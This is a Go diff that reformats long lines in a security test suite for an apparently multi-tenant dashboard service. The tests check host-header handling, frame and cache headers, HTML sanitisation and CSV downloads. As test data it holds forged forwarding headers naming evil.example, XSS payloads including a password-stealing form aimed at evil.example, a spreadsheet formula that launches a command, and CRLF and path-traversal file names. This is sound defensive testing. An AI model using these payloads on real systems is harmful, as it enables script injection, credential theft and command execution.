@@ -54,7 +54,9 @@ func (r *realm) hostNames(t *testing.T) {
 	}
 	all := "__Host-session=" + app["__Host-session"] + "; __Host-host=" + acme["__Host-host"]
 	port := strings.TrimPrefix(r.domain, "dash.localhost:")
-	forwarded := "X-Forwarded-Host: evil.example\nX-Forwarded-Proto: gopher\nX-Forwarded-Port: 666\nForwarded: host=evil.example;proto=gopher\nX-Original-Host: evil.example\nX-Host: evil.example\nX-Original-URL: /w/acme/settings/delete\nX-Rewrite-URL: /evil.example\nX-Forwarded-Prefix: //evil.example\n"
+	forwarded := "X-Forwarded-Host: evil.example\nX-Forwarded-Proto: gopher\nX-Forwarded-Port: 666\n" +
+		"Forwarded: host=evil.example;proto=gopher\nX-Original-Host: evil.example\nX-Host: evil.example\n" +
+		"X-Original-URL: /w/acme/settings/delete\nX-Rewrite-URL: /evil.example\nX-Forwarded-Prefix: //evil.example\n"
 	own := []string{r.mcp, r.app, r.at("acme", "")} // as the configuration makes them
 	type attack struct {
 		name, line, hosts string
@@ -105,7 +107,9 @@ func (r *realm) hostNames(t *testing.T) {
 		if leak := got.visible(); strings.Contains(leak, "evil.example") || strings.Contains(leak, "gopher") {
 			t.Errorf("%s: the answer names a foreign host: %s", a.name, leak)
 		}
-		if to := got.header.Get("Location"); to != "" && !slices.ContainsFunc(own, func(origin string) bool { return strings.HasPrefix(to, origin+"/") }) && !strings.HasPrefix(to, "/sign-in?") {
+		if to := got.header.Get("Location"); to != "" &&
+			!slices.ContainsFunc(own, func(origin string) bool { return strings.HasPrefix(to, origin+"/") }) &&
+			!strings.HasPrefix(to, "/sign-in?") {
 			t.Errorf("%s: leads to %s", a.name, to)
 		}
 	}
@@ -128,7 +132,8 @@ func (r *realm) hostNames(t *testing.T) {
 	}
 	args := `{"path":"notes","body":"# Notes\n\nkept by ` + canary + `"}`
 	body := `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"publish_dashboard","arguments":` + args + `}}`
-	got := r.raw(t, "POST /mcp HTTP/1.1\nHost: evil.example\n"+forwarded+"Authorization: Bearer "+r.token+"\nContent-Length: "+fmt.Sprint(len(body))+"\nConnection: close\n\n"+body)
+	got := r.raw(t, "POST /mcp HTTP/1.1\nHost: evil.example\n"+forwarded+"Authorization: Bearer "+r.token+
+		"\nContent-Length: "+fmt.Sprint(len(body))+"\nConnection: close\n\n"+body)
 	if !strings.Contains(got.body, r.at("acme", "/notes")) || strings.Contains(got.body, "evil.example") {
 		t.Errorf("a published dashboard is at %s", got.body)
 	}
@@ -147,7 +152,10 @@ func (r *realm) hostNames(t *testing.T) {
 			}
 		}
 	}
-	for _, slug := range []string{"app", "www", "mcp", "api", "auth", "login", "localhost", "App", "a.b", "-a", "a-", "ä", "xn--", "a_b", "", strings.Repeat("a", 64), "acme"} {
+	for _, slug := range []string{
+		"app", "www", "mcp", "api", "auth", "login", "localhost", "App", "a.b",
+		"-a", "a-", "ä", "xn--", "a_b", "", strings.Repeat("a", 64), "acme",
+	} {
 		before := r.state(t)
 		r.mallory.get(r.app + "/workspaces/new")
 		if got := r.mallory.submit("/workspaces", url.Values{"name": {"Mine"}, "slug": {slug}}); slug == "" || slug == "xn--" {
@@ -165,7 +173,8 @@ func (r *realm) hostNames(t *testing.T) {
 func (r *realm) framesAndCaches(t *testing.T) {
 	check := func(what string, status int, header http.Header, body string) {
 		t.Helper()
-		if policy := header.Get("Content-Security-Policy"); !strings.Contains(policy, "frame-ancestors 'none'") || header.Get("X-Frame-Options") != "DENY" || header.Get("X-Content-Type-Options") != "nosniff" {
+		if policy := header.Get("Content-Security-Policy"); !strings.Contains(policy, "frame-ancestors 'none'") ||
+			header.Get("X-Frame-Options") != "DENY" || header.Get("X-Content-Type-Options") != "nosniff" {
 			t.Errorf("%s: %d without protection: %v", what, status, header)
 		}
 		caching := header.Get("Cache-Control")
@@ -173,11 +182,16 @@ func (r *realm) framesAndCaches(t *testing.T) {
 		if !strings.Contains(caching, "no-store") && !strings.HasPrefix(caching, "private, no-cache") && !public {
 			t.Errorf("%s: %d, Cache-Control: %s", what, status, caching)
 		}
-		if public && (len(header["Set-Cookie"]) > 0 || strings.Contains(body, "ada@") || strings.Contains(body, canary) || strings.HasPrefix(header.Get("Content-Type"), "text/html")) {
+		if public &&
+			(len(header["Set-Cookie"]) > 0 || strings.Contains(body, "ada@") ||
+				strings.Contains(body, canary) || strings.HasPrefix(header.Get("Content-Type"), "text/html")) {
 			t.Errorf("%s: anybody may keep it", what)
 		}
 	}
-	queue := []string{r.app + "/", r.app + "/connect", r.app + "/workspaces/new", r.at("acme", "/notes"), r.at("acme", "/data"), r.at("acme", "/data/data.csv")}
+	queue := []string{
+		r.app + "/", r.app + "/connect", r.app + "/workspaces/new",
+		r.at("acme", "/notes"), r.at("acme", "/data"), r.at("acme", "/data/data.csv"),
+	}
 	seen := map[string]bool{}
 	for len(queue) > 0 {
 		address := queue[0]
@@ -286,8 +300,10 @@ func (r *realm) framesAndCaches(t *testing.T) {
 	}
 	// A dashboard is one for those who read it compressed, and one for others.
 	cookies := r.cookies(t, r.ada, r.at("acme", ""))
-	plain, packed := r.once(t, "GET", r.at("acme", "/notes"), cookies, nil, "Accept-Encoding", "identity"), r.once(t, "GET", r.at("acme", "/notes"), cookies, nil, "Accept-Encoding", "gzip")
-	if plain.header.Get("Vary") != "Accept-Encoding" || packed.header.Get("Vary") != "Accept-Encoding" || plain.header.Get("ETag") == packed.header.Get("ETag") {
+	plain := r.once(t, "GET", r.at("acme", "/notes"), cookies, nil, "Accept-Encoding", "identity")
+	packed := r.once(t, "GET", r.at("acme", "/notes"), cookies, nil, "Accept-Encoding", "gzip")
+	if plain.header.Get("Vary") != "Accept-Encoding" || packed.header.Get("Vary") != "Accept-Encoding" ||
+		plain.header.Get("ETag") == packed.header.Get("ETag") {
 		t.Errorf("compressed or not: %v\n%v", plain.header, packed.header)
 	}
 	// A tag of a page that one could see opens nothing for others.
@@ -295,7 +311,8 @@ func (r *realm) framesAndCaches(t *testing.T) {
 	for who, b := range map[string]*browser{"sam": r.sam, "mallory": r.mallory} {
 		b.get(r.at("acme", "/notes"))
 		for _, tag := range []string{plain.header.Get("ETag"), packed.header.Get("ETag"), "*"} {
-			if got := r.once(t, "GET", r.at("acme", "/notes"), r.cookies(t, b, r.at("acme", "")), nil, "If-None-Match", tag); got.status != http.StatusNotFound {
+			if got := r.once(t, "GET", r.at("acme", "/notes"), r.cookies(t, b, r.at("acme", "")),
+				nil, "If-None-Match", tag); got.status != http.StatusNotFound {
 				t.Errorf("%s asks whether the page is still %s: %d", who, tag, got.status)
 			}
 		}
@@ -307,13 +324,16 @@ const hostile = `# Ran <script>document.title="ran"</script>
 
 <svg onload="document.title='ran'"><script>document.title='ran'</script></svg>
 <img src=x onerror="document.title='ran'"> <iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
-<form action="https://evil.example/"><input name=password></form> <base href="https://evil.example/"> <meta http-equiv=refresh content="0;url=https://evil.example/">
+<form action="https://evil.example/"><input name=password></form> <base href="https://evil.example/"> ` +
+	`<meta http-equiv=refresh content="0;url=https://evil.example/">
 <style>body{background:url(https://evil.example/)}</style> <link rel=stylesheet href=https://evil.example/>
 
-[a](javascript:document.title='ran') [b](JaVaScRiPt&colon;document.title='ran') [c](data:text/html,<script>document.title='ran'</script>) [d](vbscript:x)
+[a](javascript:document.title='ran') [b](JaVaScRiPt&colon;document.title='ran') ` +
+	`[c](data:text/html,<script>document.title='ran'</script>) [d](vbscript:x)
 [e]( java	script:document.title='ran') <javascript:document.title='ran'> [f][g]
 
-![h](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='document.title="ran"'><script>parent.document.title='ran'</script></svg>)
+![h](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='document.title="ran"'>` +
+	`<script>parent.document.title='ran'</script></svg>)
 ![i](https://evil.example/pixel.gif) ![j](//evil.example/pixel.gif)
 
 [g]: javascript:document.title='ran'
@@ -345,13 +365,18 @@ func (r *realm) downloads(t *testing.T) {
 		}
 		for _, a := range n.Attr {
 			scheme, _, _ := strings.Cut(strings.ToLower(strings.TrimSpace(a.Val)), ":")
-			if strings.HasPrefix(a.Key, "on") || a.Key == "srcdoc" || a.Key == "style" || n.Data != "link" && (a.Key == "href" || a.Key == "src" || a.Key == "action") && slices.Contains([]string{"javascript", "data", "vbscript"}, scheme) {
+			if strings.HasPrefix(a.Key, "on") || a.Key == "srcdoc" || a.Key == "style" || n.Data != "link" &&
+				(a.Key == "href" || a.Key == "src" || a.Key == "action") && slices.Contains([]string{"javascript", "data", "vbscript"}, scheme) {
 				t.Errorf("hostile: <%s %s=%.60q>", n.Data, a.Key, a.Val)
 			}
 		}
 	}
 
-	for _, begins := range []string{"<html>", "\ufeff<html>", "\n\t <HTML>", "<!-- a -->\n<script>", "<!DOCTYPE html>", "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "<svg>", "\x00<script>", "<a,b\n", "%PDF-1.4,b\n", "=cmd|' /C calc'!A0,b\n"} {
+	for _, begins := range []string{
+		"<html>", "\ufeff<html>", "\n\t <HTML>", "<!-- a -->\n<script>", "<!DOCTYPE html>",
+		"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "<svg>",
+		"\x00<script>", "<a,b\n", "%PDF-1.4,b\n", "=cmd|' /C calc'!A0,b\n",
+	} {
 		before := r.state(t)
 		args, err := json.Marshal(map[string]any{"path": "begins/data.csv", "body": begins + "<script>document.title='ran'</script>,1\n"})
 		if err != nil {
@@ -362,7 +387,8 @@ func (r *realm) downloads(t *testing.T) {
 			continue
 		}
 		file := r.ada.get(r.at("acme", "/begins/data.csv"))
-		if file.header.Get("Content-Type") != "text/csv; charset=utf-8" || file.header.Get("X-Content-Type-Options") != "nosniff" || file.header.Get("Content-Disposition") != "attachment; filename=data.csv" {
+		if file.header.Get("Content-Type") != "text/csv; charset=utf-8" || file.header.Get("X-Content-Type-Options") != "nosniff" ||
+			file.header.Get("Content-Disposition") != "attachment; filename=data.csv" {
 			t.Errorf("a file that begins with %q: %d %v", begins, file.status, file.header)
 		}
 	}
@@ -372,12 +398,15 @@ func (r *realm) downloads(t *testing.T) {
 			continue
 		}
 		if file.header.Get("Content-Type") != "text/csv; charset=utf-8" || file.header.Get("X-Content-Type-Options") != "nosniff" ||
-			file.header.Get("Content-Disposition") != "attachment; filename=data.csv" || !strings.Contains(file.header.Get("Content-Security-Policy"), "sandbox;") {
+			file.header.Get("Content-Disposition") != "attachment; filename=data.csv" ||
+			!strings.Contains(file.header.Get("Content-Security-Policy"), "sandbox;") {
 			t.Errorf("%s: %d %v", path, file.status, file.header)
 		}
 	}
 	for _, name := range []string{
-		"x\r\nSet-Cookie: a=b.csv", "x\nX.csv", "x\".csv", "x;filename=y.html.csv", "x%0d%0aA:b.csv", "x\x00.csv", "x\u2028.csv", "x\u202efdp.csv", "../x.csv", "..\\x.csv", "a/b/x.csv", "x.html.csv/", "x.svg", "x.html", "X.CSV", ".csv", "x.csv ", "xé.csv", strings.Repeat("x", 300) + ".csv",
+		"x\r\nSet-Cookie: a=b.csv", "x\nX.csv", "x\".csv", "x;filename=y.html.csv", "x%0d%0aA:b.csv",
+		"x\x00.csv", "x\u2028.csv", "x\u202efdp.csv", "../x.csv", "..\\x.csv", "a/b/x.csv", "x.html.csv/",
+		"x.svg", "x.html", "X.CSV", ".csv", "x.csv ", "xé.csv", strings.Repeat("x", 300) + ".csv",
 	} {
 		before := r.state(t)
 		args, err := json.Marshal(map[string]any{"path": "named/" + name, "body": "a,b\n1,2\n"})
@@ -391,7 +420,8 @@ func (r *realm) downloads(t *testing.T) {
 		}
 		got := r.ada.get(r.at("acme", "/named/"+url.PathEscape(name)))
 		kind, _, _ := strings.Cut(got.header.Get("Content-Type"), ";")
-		if got.header.Get("A") != "" || got.header.Get("X") != "" || kind != "text/html" && !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment; filename=") {
+		if got.header.Get("A") != "" || got.header.Get("X") != "" ||
+			kind != "text/html" && !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment; filename=") {
 			t.Errorf("published as %q: %s\n%d %v", name, text, got.status, got.header)
 		}
 	}
